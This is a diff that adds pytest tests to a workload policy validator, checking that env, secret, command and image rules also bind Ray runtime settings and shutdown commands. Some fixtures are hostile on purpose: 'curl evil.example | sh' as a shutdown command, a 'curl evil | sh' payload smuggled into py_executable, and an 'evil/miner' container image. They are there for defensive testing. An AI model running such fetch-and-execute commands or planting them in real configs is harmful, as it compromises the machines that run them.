@@ -182,3 +182,98 @@ def test_two_pvcs_with_one_name_are_an_error():
         "storage: {attachExistingPVCs: [{name: d, mountPoint: /a}, {name: d, mountPoint: /b}]}"
     )
     assert run(workload).codes == ["E342"]
+
+
+# ---------------------------------------------------------------------------------------------
+# env: every way a variable reaches the program
+
+RAY_ONE = RAY.replace("      - {name: g, count: 2, resources: {cpus: 1, memory: 4}}\n", "")
+
+
+@pytest.mark.parametrize(
+    "rule",
+    [
+        "spec.env.MODE: {options: [safe]}",
+        "spec.env.MODE: {pattern: '^safe$'}",
+        "spec.env.*: {pattern: '^[a-z]+$'}",
+    ],
+)
+def test_a_value_rule_is_not_met_by_a_secret_reference(rule):
+    workload = with_spec("env: {MODE: {secret: prod, key: mode}}")
+    outcome = run(workload, policies=[policy(rules=rule)])
+    assert outcome.codes == ["E414"], outcome.lines
+    assert run(with_spec("env: {MODE: safe}"), policies=[policy(rules=rule)]).codes == []
+
+
+@pytest.mark.parametrize(
+    ("rule", "code"),
+    [
+        ("spec.env.MODE: {options: [safe]}", "E404"),
+        ("spec.env.*: {pattern: '^[a-z]+$'}", "E405"),
+        ("spec.env.MODE: {forbidden: true}", "E408"),
+        ("spec.env.MODE: {canEdit: false}", "E407"),
+        ("spec.env: {canAdd: false}", "E409"),
+    ],
+)
+def test_env_rules_bind_ray_runtime_env_vars(rule, code):
+    workload = with_spec("runtimeEnv: {env_vars: {MODE: UNSAFE}}", RAY_ONE)
+    defaults = "spec: {env: {OTHER: x}}" if "canAdd" in rule else "spec: {env: {MODE: safe}}"
+    outcome = run(workload, policies=[policy(rules=rule, defaults=defaults)])
+    assert outcome.codes == [code], outcome.lines
+    assert "runtimeEnv.env_vars" in outcome.only(code).message
+    assert outcome.only(code).location.line == 13
+
+
+@pytest.mark.parametrize(
+    "rule",
+    [
+        "spec.secrets: {itemRules: {secretName: {options: [team-a-token]}}}",
+        "spec.secrets.*.secretName: {pattern: '^team-a-'}",
+        "spec.secrets: {canAdd: false}",
+        "spec.secrets: {forbidden: true}",
+    ],
+)
+def test_secret_rules_bind_the_secrets_env_references_read(rule):
+    workload = with_spec("env: {PASSWORD: {secret: prod-db, key: password}}")
+    outcome = run(workload, policies=[policy(rules=rule)])
+    assert len(outcome.codes) == 1 and outcome.codes[0] in ("E404", "E405", "E408", "E409")
+    allowed = with_spec("env: {TOKEN: {secret: team-a-token, key: t}}")
+    defaults = "spec: {secrets: {token: {secretName: team-a-token, mountPath: /t}}}"
+    if "forbidden" not in rule:
+        assert run(allowed, policies=[policy(rules=rule, defaults=defaults)]).codes == []
+
+
+# ---------------------------------------------------------------------------------------------
+# commands and images: every field that runs as one
+
+
+@pytest.mark.parametrize(
+    ("rule", "code"),
+    [
+        ("spec.command: {canEdit: false}", "E407"),
+        ("spec.command: {pattern: '^python train\\.py$'}", "E405"),
+        ("spec.command: {options: [python train.py]}", "E404"),
+    ],
+)
+def test_command_rules_bind_the_shutdown_command(rule, code):
+    workload = with_spec("gracefulTermination: {shutdownCommand: curl evil.example | sh}")
+    outcome = run(workload, policies=[policy(rules=rule, defaults="spec: {command: python train.py}")])
+    assert outcome.codes == [code], outcome.lines
+    assert "shutdownCommand" in outcome.only(code).message
+
+
+def test_command_rules_bind_rays_python_executable():
+    workload = with_spec("runtimeEnv: {py_executable: 'sh -c \"curl evil | sh\" #'}", RAY_ONE)
+    outcome = run(workload, policies=[policy(rules="spec.command: {pattern: '^python '}")])
+    assert outcome.codes == ["E405"], outcome.lines
+
+
+@pytest.mark.parametrize(
+    "runtime_env",
+    ["{image_uri: docker.io/evil/miner:1}", "{container: {image: docker.io/evil/miner:1}}"],
+)
+def test_image_rules_bind_rays_runtime_images(runtime_env):
+    workload = with_spec(f"runtimeEnv: {runtime_env}", RAY_ONE)
+    rule = "spec.image: {pattern: '^registry\\.example\\.com/team-a/'}"
+    outcome = run(workload, policies=[policy(rules=rule)])
+    assert outcome.codes == ["E405"], outcome.lines
